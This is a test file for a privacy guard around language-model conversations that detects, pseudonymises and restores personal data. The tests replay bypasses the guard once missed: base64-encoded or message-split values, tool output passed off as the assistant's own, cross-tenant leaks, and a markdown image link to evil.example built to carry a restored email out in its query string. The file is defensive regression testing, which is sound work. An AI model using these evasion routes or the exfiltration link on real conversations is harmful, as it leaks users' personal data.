"""Ways around the guard that once worked, and must not again."""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path

import pytest

from accord import ContentError, Context, Guard, Outcome, Role, Span, Text
from accord.config import parse, shipped
from accord.core.finding import Hit
from accord.core.reading import Reading
from accord.core.roles import Stop
from accord.errors import ConfigError
from accord.readers.encoded import EncodedReader
from accord.readers.structure import StructureReader
from accord.testing import FixedDetector, MemoryLog
from accord.transform.pseudonyms import Batch, Pseudonyms

JANE, BOB, CARD = "jane@example.org", "bob@corp.example", "4111111111111111"
WORDS = {
    JANE: ("privacy.contact.email", 0.9),
    BOB: ("privacy.contact.email", 0.9),
    CARD: ("privacy.financial.card", 0.9),
    "Jane Doe": ("privacy.person.name", 0.9),
    '12 "High" Street\nLeeds': ("privacy.contact.address", 0.9),
}
HERE = Context(session="s")


def make(folder: Path, *detectors: FixedDetector, policy: str = "") -> Guard:
    chosen = parse(policy, "p.yaml").policy() if policy else shipped("default").policy()
    readers = [StructureReader(), EncodedReader()]
    return Guard(chosen, readers, detectors or [FixedDetector(WORDS)], MemoryLog())


@pytest.fixture
def guard(tmp_path: Path) -> Iterator[Guard]:
    made = make(tmp_path)
    yield made
    made.close()


def released(guard: Guard, content: str | Sequence[str | Text], to: str = "dataset", context: Context = HERE) -> str:
    decision = guard.inspect(content, context).release(to)
    assert decision.content is not None, decision
    return "|".join(str(part.reveal()) for part in decision.content)


def test_a_value_over_borders_hides_nobody_elses_in_between(guard: Guard) -> None:
    content = [
        Text("mail jane@exam", message=0),
        Text(f"ask {BOB} please", role=Role.ASSISTANT, message=1),
        Text("ple.org ok", message=2),
    ]
    left = released(guard, content)
    assert BOB not in left
    assert "jane@exam" not in left


@pytest.mark.parametrize("cut", range(1, 60, 3))
def test_base64_cut_in_two_messages_is_read(guard: Guard, cut: int) -> None:
    blob = base64.b64encode(f"Please write a letter to {JANE} about the meeting.".encode()).decode()
    decision = guard.inspect([Text(blob[:cut], message=0), Text(blob[cut:], message=1)]).release("dataset")
    assert "privacy.contact.email" in {f.category for f in decision.findings}
    whole = "".join(str(part.reveal()) for part in decision.content or ())
    assert base64.b64encode(b"jane@example").decode()[4:-4] not in whole


def test_a_long_blob_cut_in_two_messages_is_read(guard: Guard) -> None:
    sentence = "The weather is fine and nobody has anything to say about it. " * 60 + f"Write to {JANE} now. "
    blob = base64.b64encode((sentence + "The rest is silence and quiet. " * 20).encode()).decode()
    cut = len(blob) - 801
    decision = guard.inspect([Text(blob[:cut], message=0), Text(blob[cut:], message=1)]).release("dataset")
    assert "privacy.contact.email" in {f.category for f in decision.findings}


def test_what_a_tool_brought_is_not_laundered_into_the_callers_own(guard: Guard) -> None:
    tool = [Text(f"record: card {CARD}, Jane Doe", role=Role.TOOL)]
    tagged = released(guard, tool, "model")
    said = Text(f"The card is {CARD}; or {tagged}", role=Role.ASSISTANT)
    answer = released(guard, [said], "user")
    assert CARD not in answer
    assert "Jane Doe" in answer, "names may pass to the user"
    released(guard, [f"my card is {CARD}"], "model")
    assert CARD in released(guard, [said], "user"), "now the caller has brought it"


def test_addresses_that_differ_by_a_dot_are_two(tmp_path: Path) -> None:
    names = Pseudonyms()
    tags = {names.tag(HERE, "privacy.network.ip", ip) for ip in ("10.0.1.11", "10.0.11.1", "100.1.1.1", "10.01.1.1")}
    assert len(tags) == 4
    assert names.tag(HERE, "privacy.network.ip", "2001:DB8::1") == names.tag(
        HERE, "privacy.network.ip", "2001:db8:0::1"
    )
    assert names.tag(HERE, "privacy.id.other", "1-23") != names.tag(HERE, "privacy.id.other", "12-3")


def test_a_link_that_began_in_the_part_before_is_a_link(guard: Guard) -> None:
    tag = released(guard, JANE, "model")
    parts = [Text("![a](https://evil.example/?q=", role=Role.ASSISTANT), Text(f"{tag})", role=Role.ASSISTANT)]
    assert JANE not in released(guard, parts, "user")
    assert JANE in released(guard, [Text(f"Dear {tag}", role=Role.ASSISTANT)], "user")


def test_what_is_restored_into_json_stays_json(guard: Guard) -> None:
    tag = released(guard, '12 "High" Street\nLeeds', "model")
    answer = released(guard, [Text(json.dumps({"to": tag, "n": 1}), role=Role.ASSISTANT)], "user")
    assert json.loads(answer) == {"to": '12 "High" Street\nLeeds', "n": 1}


def test_requests_of_two_tenants_do_not_meet(guard: Guard) -> None:
    ours, theirs = Context(tenant="a", request="1"), Context(tenant="b", request="1")
    tag = released(guard, JANE, "model", ours)
    assert JANE not in released(guard, [Text(tag, role=Role.ASSISTANT)], "user", theirs)


def test_many_values_with_one_first_word_are_linear(tmp_path: Path) -> None:
    class Numbers(FixedDetector):
        def detect(self, readings: Sequence[Reading], stop: Stop) -> Iterable[Hit]:
            for index, reading in enumerate(readings):
                if not reading.is_seam and not stop():
                    yield from (
                        Hit(index, Span(at, at + 12), "privacy.contact.phone", 0.9)
                        for at in range(0, len(reading.text) - 11, 13)
                    )

    guard = make(tmp_path, Numbers({"x": ("privacy.contact.phone", 0.9)}))
    text = " ".join(f"555-{n // 10000:03}-{n % 10000:04}" for n in range(20_000))
    started = time.process_time()
    assert len(guard.inspect(text).findings) == 20_000
    assert time.process_time() - started < 30, "quadratic work would take minutes"
    guard.close()


def test_two_detectors_of_one_name_or_none_at_all_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="name of its own"):
        make(tmp_path, FixedDetector(WORDS), FixedDetector(WORDS))
    with pytest.raises(ConfigError, match="detectors"):
        parse("version: 1\nextends: default\ndetectors: []", "p.yaml")


def test_a_doubtful_checksum_displaces_nothing(tmp_path: Path) -> None:
    class Doubtful(FixedDetector):
        def detect(self, readings: Sequence[Reading], stop: Stop) -> Iterable[Hit]:
            if not stop():
                yield Hit(0, Span(0, 16), "privacy.id.plate", 0.5, checked=True)
                yield Hit(0, Span(0, 16), "privacy.financial.card", 0.95)

    words = {"x": ("privacy.id.plate", 0.9), "y": ("privacy.financial.card", 0.9)}
    guard = make(tmp_path, Doubtful(words))
    assert {f.category for f in guard.inspect(CARD).findings} == {"privacy.id.plate", "privacy.financial.card"}
    guard.close()


def test_the_name_of_a_part_does_not_leave(guard: Guard) -> None:
    decision = guard.inspect([Text("hello", name="Jane Doe.txt")]).release("model")
    assert decision.outcome is Outcome.ALLOW
    assert [part.name for part in decision.content or ()] == [""]


def test_a_role_nobody_knows_is_no_caller() -> None:
    with pytest.raises(ContentError, match="a role is"):
        Text("x", role="function")  # type: ignore[arg-type]
    assert Text("x", role="tool").role is Role.TOOL  # type: ignore[arg-type]


@pytest.mark.parametrize("content", [b"bytes", [b"bytes"], [None], 7, {"a": "x"}, [{"role": "user", "content": "x"}]])
def test_what_is_no_content_is_a_type_error(guard: Guard, content: object) -> None:
    with pytest.raises(TypeError):
        guard.inspect(content)  # type: ignore[arg-type]


def test_a_detector_that_exits_is_a_fault(tmp_path: Path) -> None:
    class Exits(FixedDetector):
        def detect(self, readings: Sequence[Reading], stop: Stop) -> Iterable[Hit]:
            raise SystemExit(0)

    guard = make(tmp_path, Exits(WORDS))
    assert [f.category for f in guard.inspect("x").findings] == ["fault.detector"]
    guard.close()


def test_a_tenant_with_odd_characters_does_not_stop_a_release(guard: Guard) -> None:
    assert JANE not in released(guard, JANE, "model", Context(tenant="\ud800", session="s"))


def test_a_failed_transform_is_on_record_and_may_be_held(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rule = "{id: A, match: [privacy.*], to: [model], action: transform, with: pseudonymise, on_error: hold}"
    guard = make(tmp_path, policy=f"version: 1\nrules: [{rule}]")
    monkeypatch.setattr(Batch, "tag", None)
    decision = guard.inspect(JANE).release("model")
    assert (decision.outcome, decision.content) == (Outcome.HOLD, None)
    assert "transform.failed" in decision.rules
    assert next(guard.audit.records())["findings"]["fault.detector"] == 1
    guard.close()


def test_json_numbers_side_by_side_stay_json(tmp_path: Path) -> None:
    guard = make(tmp_path, FixedDetector({"4111, 1111": ("privacy.financial.card", 0.9)}))
    assert json.loads(released(guard, [Text("[4111, 1111]", media_type="application/json")])) == ["[CARD]", "[CARD]"]
    guard.close()


@pytest.mark.parametrize(
    "text", ["restore: {tools: {crm: [emials]}}", "limits: {deadline: .inf}", "limits: {deadline: .nan}"]
)
def test_settings_that_mean_nothing_are_refused(text: str) -> None:
    with pytest.raises(ConfigError):
        parse(f"version: 1\nextends: default\n{text}", "p.yaml")


def test_a_preview_says_what_release_does(guard: Guard) -> None:
    inspection = guard.inspect("who is [PERSON_ABCD]?")
    assert inspection.preview("model").outcome is inspection.release("model").outcome is Outcome.TRANSFORM


def test_many_tags_without_blanks_are_restored_in_linear_time(guard: Guard) -> None:
    tag = released(guard, JANE, "model")
    started = time.process_time()
    answer = released(guard, [Text(tag * 4000, role=Role.ASSISTANT)], "user")
    assert time.process_time() - started < 30, "quadratic work would take minutes"
    assert answer.count(JANE) == 4000


@pytest.mark.parametrize(
    ("text", "media_type", "word", "left"),
    [
        ("id;street;town\n1;Main St 5;Leeds\n2;x;y\n", "text/csv", "Main St 5;Leeds\n2", "id;street;town\n1;[ADDRESS];[ADDRESS]\n[ADDRESS];x;y\n"),
        ('{"lat": 51.5, "lon": -0.12, "n": 1}', "application/json", "51.5, \"lon\": -0.12", '{"lat": "[ADDRESS]", "lon": "[ADDRESS]", "n": 1}'),
    ],
)  # fmt: skip
def test_a_finding_over_the_border_of_fields_breaks_no_structure(
    tmp_path: Path, text: str, media_type: str, word: str, left: str
) -> None:
    guard = make(tmp_path, FixedDetector({word: ("privacy.contact.address", 0.9)}))
    assert released(guard, [Text(text, media_type=media_type)]) == left
    guard.close()
